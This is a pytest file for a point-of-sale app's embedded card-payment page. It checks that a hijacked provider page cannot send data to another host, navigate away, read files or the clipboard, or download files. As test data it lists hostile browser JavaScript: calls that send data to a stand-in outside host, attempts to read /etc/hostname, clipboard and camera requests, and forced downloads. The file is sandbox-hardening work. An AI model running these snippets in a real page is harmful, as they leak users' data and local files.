"""A provider's page that has been taken over tries to get out. Each attempt must end inside the page."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from pytestqt.qtbot import QtBot

from pos_app.domain.card_page import CardProblem
from tests import card_hands
from tests.card.provider_server import HONEST_PAGE, ProviderServer
from tests.card.shown import Form

# Runs `attempt`, then reports its value (or what it raised) and goes on as an honest page.
_ATTEMPT = """
window.cardSession = async (id) => {
  window.session = id;
  const silence = new Promise((_, no) => setTimeout(() => no("silence"), 400));
  const soon = (promise) => Promise.race([promise, silence]);
  let result;
  try { result = await soon((async () => { ATTEMPT })()); } catch (error) { result = "blocked: " + error; }
  await new Promise((go) => setTimeout(go, 100));
  await fetch("/report", { method: "POST", body: JSON.stringify(result ?? null) });
  answer({});
};
dispatchEvent(new CustomEvent("card-page-ready"));
</script>"""

_REACH_OUT = [
    "await fetch('STRANGER/fetch', {mode: 'no-cors'})",
    "await fetch('/moved', {mode: 'no-cors'})",
    "new Image().src = '/moved'",
    "navigator.sendBeacon('STRANGER/beacon', 'card')",
    "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'STRANGER/l';"
    " document.head.append(l)",
    "new WebSocket('STRANGER/socket'.replace('http', 'ws'))",
    "new EventSource('STRANGER/events')",
    "new Worker(URL.createObjectURL(new Blob([\"fetch('STRANGER/worker', {mode: 'no-cors'})\"])))",
    "const f = document.createElement('form'); f.action = 'STRANGER/form'; f.method = 'post';"
    " document.body.append(f); f.submit()",
    "location.href = 'STRANGER/location'",
    "const a = document.createElement('a'); a.href = 'STRANGER/ping'; a.ping = 'STRANGER/ping'; a.click()",
]
_LEAVE = [
    "location.href = 'file:///etc/hostname'",
    "location.href = 'chrome://gpu'",
    "location.href = 'data:text/html,<h1>gone</h1>'",
    "location.href = 'view-source:' + location.href",
]
_HOLD_UP = [
    ("alert('Ligue para 0800'); return 'went on'", "went on"),
    ("return confirm('Pagar fora?')", False),
    ("return prompt('Senha?')", None),
    ("return window.open('about:blank') === null", True),
    ("return await Notification.requestPermission()", "denied"),
    ("document.execCommand('paste'); return document.getElementById('cardHolderName').value", ""),
    ("return typeof qt + typeof QWebChannel + typeof tillBegin", "undefinedundefinedundefined"),
    ("return document.createElement('canvas').getContext('webgl') === null", True),
]
_REFUSED = [
    "return await navigator.clipboard.readText()",
    "await new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no)); return 'found'",
    "await navigator.mediaDevices.getUserMedia({video: true, audio: true}); return 'sees'",
    pytest.param(
        "await navigator.mediaDevices.getDisplayMedia(); return 'sees'",
        marks=pytest.mark.qt_log_ignore("capturing is not available"),
    ),
    "await document.documentElement.requestFullscreen(); return 'full'",
    "return await (await fetch('file:///etc/hostname')).text()",
    "return await new Promise((yes, no) => { const f = document.createElement('iframe'); f.onload = () =>"
    " { try { yes(f.contentDocument.body.innerText || no('empty')) } catch (e) { no(e) } };"
    " f.src = 'file:///etc/hostname'; document.body.append(f) })",
]


_WINDOWS = "[type(w).__name__ for w in QApplication.topLevelWidgets() if w.isVisible()]"


def give_secret(form: Form) -> None:
    """Put something into the clipboard that the page must not get, when there is a page."""
    form.host_changed.connect(
        lambda host: card_hands.ask(form, "QApplication.clipboard().setText('secret')") if host else None
    )


def run(form: Form, provider: ProviderServer, stranger: ProviderServer, attempt: str) -> object:
    """Run one attempt in the page and return its result.

    Checks that nothing got out and that the sale still works.
    """
    attempt = attempt.replace("STRANGER", stranger.url(""))
    provider.page("/moved", "", 302, location=stranger.url("/redirect"))
    provider.page("/file", "bytes", content_disposition="attachment; filename=evil.txt")
    stranger.page("/redirect")
    url = provider.page(
        "/card", HONEST_PAGE.rpartition("</script>")[0] + _ATTEMPT.replace("ATTEMPT", attempt)
    )

    form.takes(url=url)

    assert card_hands.ask(form, "window.session.page.url().toString()") == url
    assert card_hands.ask(form, _WINDOWS) == ["CardWindow"]
    assert form.host == "127.0.0.1"
    assert stranger.requests == []
    result: object = json.loads(provider.reports[0])
    return result


@pytest.mark.parametrize("attempt", _REACH_OUT)
def test_nothing_is_ever_sent_to_another_host(
    form: Form, provider: ProviderServer, stranger: ProviderServer, attempt: str
) -> None:
    run(form, provider, stranger, attempt)


@pytest.mark.parametrize("attempt", _LEAVE)
def test_the_page_cannot_turn_into_another(
    form: Form, provider: ProviderServer, stranger: ProviderServer, attempt: str
) -> None:
    run(form, provider, stranger, attempt)


def test_a_page_that_blanks_itself_is_closed(form: Form, provider: ProviderServer, qtbot: QtBot) -> None:
    blank = "const a = document.createElement('a'); a.href = 'about:blank'; a.click()"
    page = HONEST_PAGE.replace("window.session = id;", blank)

    with qtbot.waitSignal(form.failed, timeout=10_000) as failed:
        form.open(provider.page("/card", page), "s")

    assert failed.args is not None
    assert failed.args[0].kind is CardProblem.NOT_ALLOWED


@pytest.mark.parametrize(("attempt", "answer"), _HOLD_UP)
def test_the_page_is_answered_in_silence(
    form: Form, provider: ProviderServer, stranger: ProviderServer, attempt: str, answer: object
) -> None:
    give_secret(form)

    assert run(form, provider, stranger, attempt) == answer


@pytest.mark.parametrize("attempt", _REFUSED)
def test_the_page_is_refused_what_reaches_outside(
    form: Form, provider: ProviderServer, stranger: ProviderServer, attempt: str
) -> None:
    give_secret(form)

    result = run(form, provider, stranger, attempt)

    assert str(result).startswith("blocked:")
    assert card_hands.ask(form, "QApplication.clipboard().text()") == "secret"


@pytest.mark.parametrize(
    "attempt",
    [
        "const a = document.createElement('a'); a.href = '/file'; a.download = 'evil.txt'; a.click()",
        "const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['x']));"
        " a.download = 'evil.txt'; a.click()",
        "location.href = '/file'",
    ],
)
def test_nothing_is_downloaded(
    form: Form, provider: ProviderServer, stranger: ProviderServer, attempt: str, tmp_path: Path
) -> None:
    redirect = f"window.session._profile.setDownloadPath({str(tmp_path)!r})"
    form.host_changed.connect(lambda host: card_hands.ask(form, redirect) if host else None)
    run(form, provider, stranger, attempt)

    assert list(tmp_path.iterdir()) == []
